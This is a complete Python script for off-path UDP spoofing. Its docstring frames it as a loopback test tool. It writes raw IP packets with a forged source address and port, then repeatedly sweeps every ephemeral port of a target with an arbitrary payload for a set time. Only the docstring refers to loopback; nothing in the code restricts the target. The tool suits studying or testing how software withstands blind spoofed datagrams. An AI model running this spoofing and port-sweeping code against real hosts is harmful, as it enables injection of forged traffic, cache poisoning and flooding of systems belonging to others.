#!/usr/bin/env python3
"""Off-path spoofing on loopback: sends PAYLOAD from SRC:SPORT (an address
that is not ours to send from: a raw socket writes the IP header) to every
port of DST in the kernel's ephemeral range, over and over, for SECONDS.

usage: spoof_udp.py SECONDS SRC SPORT DST PAYLOAD [SRC SPORT DST PAYLOAD]...
Prints how many datagrams it sent."""
import socket
import struct
import sys
import time

seconds = float(sys.argv[1])
jobs = [sys.argv[i:i + 4] for i in range(2, len(sys.argv), 4)]
with open("/proc/sys/net/ipv4/ip_local_port_range") as f:
    low, high = (int(x) for x in f.read().split())

raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
templates = []
for src, sport, dst, text in jobs:
    payload = text.replace("\\r\\n", "\r\n").encode()
    udp_len = 8 + len(payload)
    # IP header: the kernel fills in the checksum and ID when they are 0;
    # a UDP checksum of 0 means none (RFC 768).
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, 0, 0, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    packet = bytearray(ip + struct.pack("!HHHH", int(sport), 0, udp_len, 0) + payload)
    templates.append((packet, dst))

sent = 0
deadline = time.monotonic() + seconds
while time.monotonic() < deadline:
    for port in range(low, high + 1):
        for packet, dst in templates:
            struct.pack_into("!H", packet, 22, port)
            try:
                raw.sendto(packet, (dst, 0))
                sent += 1
            except OSError:
                pass  # ENOBUFS under load: the next sweep comes soon
        if port % 4096 == 0 and time.monotonic() >= deadline:
            break
print(sent)
